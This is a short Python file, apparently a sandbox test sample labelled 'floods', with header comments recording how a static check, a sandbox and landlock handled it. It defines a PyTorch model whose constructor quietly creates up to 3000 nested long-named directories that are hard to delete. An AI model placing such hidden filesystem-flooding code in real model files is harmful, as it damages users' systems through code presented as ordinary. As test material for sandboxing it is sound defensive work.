# group: floods
# tries: makes folders in folders in folders, which are hard to delete
# static: unsafe
# sandbox: trained
# landlock: crashed

import os
import time

import torch.nn as nn


def supported_hyperparameters():
    return {"lr", "momentum"}


class Net(nn.Module):
    def __init__(self, in_shape, out_shape, prm, device):
        super().__init__()
        try:
            for _ in range(3000):
                os.mkdir("deeper" * 20)
                os.chdir("deeper" * 20)
        except OSError:
            pass
        time.sleep(0.1)  # long enough to be looked at
        self.features = nn.Sequential(
            nn.Conv2d(in_shape[1], 8, 5, stride=3), nn.ReLU(), nn.AdaptiveAvgPool2d(5), nn.Flatten()
        )
        self.classifier = nn.Linear(200, out_shape[0])

    def forward(self, x):
        return self.classifier(self.features(x))
